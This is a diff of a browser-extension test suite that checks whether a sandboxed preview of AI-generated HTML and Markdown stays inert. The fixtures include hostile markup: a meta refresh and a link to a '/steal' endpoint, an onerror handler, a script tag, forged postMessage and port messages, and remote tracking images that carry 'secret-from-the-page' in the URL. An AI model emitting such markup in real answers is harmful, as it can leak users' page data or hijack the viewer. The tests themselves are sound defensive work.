@@ -47,16 +47,32 @@ export function captureFlows(h: Harness, flow: FlowIt): void {
     await page.close();
   });
 
-  flow('preview-sandbox', 'the preview frame compiles Tailwind offline and has no extension access and no network', async () => {
+  /** Replaces the last (code) turn's answer in the background, as if the model had written `text`. */
+  const answerWith = (text: string) =>
+    h.b.background((l, t) => {
+      l.session.conversation.turns.at(-1)!.text = t;
+      l.session.changed();
+    }, text);
+
+  flow('preview-sandbox', 'the preview frame compiles Tailwind offline, runs no generated script or handler, cannot navigate, and has no extension access and no network', async () => {
+    const steal = `${h.site.url}/steal`;
     const html =
-      '<!doctype html><html><body><header id="h" class="sticky top-0 bg-blue-800 p-4 text-white rounded-lg">Acme</header><div class="grid grid-cols-3 gap-4 mt-6" id="g"><section class="border p-4">A</section><section class="border p-4">B</section><section class="border p-4">C</section></div><script>document.title="ran"</script></body></html>';
-    await h.panel.evaluate(`document.querySelector('[data-testid=preview-frame]').contentWindow.postMessage({ type: 'loupe-preview-render', html: ${JSON.stringify(html)} }, '*')`);
-    const style = (id: string, prop: string) => h.b.inPreview<string>(`getComputedStyle(document.getElementById('${id}')).${prop}`);
+      `<!doctype html><html><head></head><body><meta http-equiv="refresh" content="1;url=${steal}?meta"><header id="h" class="sticky top-0 bg-blue-800 p-4 text-white rounded-lg">Acme</header><div class="grid grid-cols-3 gap-4 mt-6" id="g"><section class="border p-4">A</section><section class="border p-4">B</section><section class="border p-4">C</section></div>` +
+      `<img id="bad" src="nope.png" onerror="document.title='handler ran'"><a id="away" href="${steal}?click">away</a><script>document.title="ran"</script></body></html>`;
+    await answerWith('```html\n' + html + '\n```');
+    const style = (id: string, prop: string) => h.b.inPreview<string>(`document.getElementById('${id}') ? getComputedStyle(document.getElementById('${id}')).${prop} : ''`);
     await expect.poll(() => style('h', 'paddingTop').catch(() => ''), { timeout: 10_000 }).toBe('16px');
     expect(await style('g', 'display')).toBe('grid');
     expect(await style('h', 'position')).toBe('sticky');
-    // Generated scripts stay inert; the page has no extension API and cannot reach the companion.
-    expect(await h.b.inPreview<string>('document.title')).not.toBe('ran');
+    // Generated scripts and handlers stay inert; the frame follows neither a meta refresh nor a link.
+    expect(await h.b.inPreview<boolean>(`document.getElementById('bad').hasAttribute('onerror')`)).toBe(false);
+    expect(await h.b.inPreview<number>(`document.querySelectorAll('meta[http-equiv=refresh i]').length`)).toBe(0);
+    await h.b.inPreview<boolean>(`(document.getElementById('away').click(), true)`);
+    await new Promise((r) => setTimeout(r, 1_500));
+    expect(await h.b.inPreview<string>('location.pathname')).toMatch(/\/preview\.html$/);
+    expect(await h.b.inPreview<string>('document.title')).not.toMatch(/ran/);
+    expect(h.site.requests.filter((u) => u.startsWith('/steal'))).toEqual([]);
+    // No extension API, no way to the companion.
     expect(await h.b.inPreview<string>('typeof globalThis.chrome?.runtime?.id')).toBe('undefined');
     expect(await h.b.inPreview<string>('typeof globalThis.browser?.runtime?.id')).toBe('undefined');
     expect(await h.b.inPreview<string>('origin')).toBe('null');
@@ -64,7 +80,38 @@ export function captureFlows(h: Harness, flow: FlowIt): void {
     expect(await h.b.inPreview<boolean>(`fetch(${health}).then(() => true, () => false)`)).toBe(false);
     // Not even an opaque request (which CORS would let through): the frame's CSP forbids connecting.
     expect(await h.b.inPreview<boolean>(`fetch(${health}, { mode: 'no-cors' }).then(() => true, () => false)`)).toBe(false);
+    expect(await h.panel.locator('[data-testid=preview-noscript]').textContent()).toContain('Scripts in generated code do not run');
     await h.shot(h.panel, '08-panel-preview-tailwind');
+  });
+
+  flow('preview-port', 'the preview listens only to its own port: a posted render is ignored, and each answer gets a fresh frame', async () => {
+    const { panel } = h;
+    await panel.evaluate(`document.querySelector('[data-testid=preview-frame]').dataset.e2eOld = '1'`);
+    await panel.evaluate(`document.querySelector('[data-testid=preview-frame]').contentWindow.postMessage({ type: 'loupe-preview-render', html: '<p id="posted">x</p>' }, '*')`);
+    await new Promise((r) => setTimeout(r, 500));
+    expect(await h.b.inPreview<number>(`document.querySelectorAll('#posted').length`)).toBe(0);
+    // Inside the frame, a page that offers its own port is not listened to: the panel took the first one.
+    await h.b.inPreview<boolean>(`(() => { const c = new MessageChannel(); parent.postMessage({ type: 'loupe-preview-port' }, '*', [c.port2]); return true; })()`);
+    await answerWith('```html\n<main id="second">second answer</main>\n```');
+    await expect.poll(() => h.b.inPreview<number>(`document.querySelectorAll('#second').length`).catch(() => 0), { timeout: 10_000 }).toBe(1);
+    expect(await panel.evaluate<number>(`document.querySelectorAll('[data-testid=preview-frame][data-e2e-old]').length`)).toBe(0);
+    expect(await panel.locator('[data-testid=preview-popout]').count()).toBe(h.b.previewPopsOut ? 1 : 0);
+  });
+
+  flow('remote-images', 'a Markdown answer with remote images makes no request and shows them as links', async () => {
+    const { panel, site } = h;
+    const track = `${site.url}/track.png?q=secret-from-the-page`;
+    await answerWith(`Here is the chart ![chart](${track}) and <img src="${site.url}/track2.png?q=raw-html"> <video poster="${site.url}/track3.png"></video>`);
+    const answer = (await h.lastTurn()).locator('[data-testid=answer]');
+    await expect.poll(() => answer.locator('a[data-remote-image]').count(), { timeout: 10_000 }).toBe(2);
+    expect(await answer.locator('a[data-remote-image]').first().getAttribute('href')).toBe(track);
+    expect(await answer.locator('img').count()).toBe(0);
+    expect(await answer.locator('video').count()).toBe(0);
+    // The pages' CSP refuses a remote image even if one got through.
+    const loaded = await panel.evaluate<string>(`new Promise((r) => { const i = new Image(); i.onload = () => r('loaded'); i.onerror = () => r('blocked'); i.src = '${site.url}/photo.png?csp'; })`);
+    expect(loaded).toBe('blocked');
+    await new Promise((r) => setTimeout(r, 300));
+    expect(site.requests.filter((u) => u.startsWith('/track') || u.includes('?csp'))).toEqual([]);
   });
 
   flow('history', 'history survives a reload of the panel, is searchable, and clears in one click', async () => {
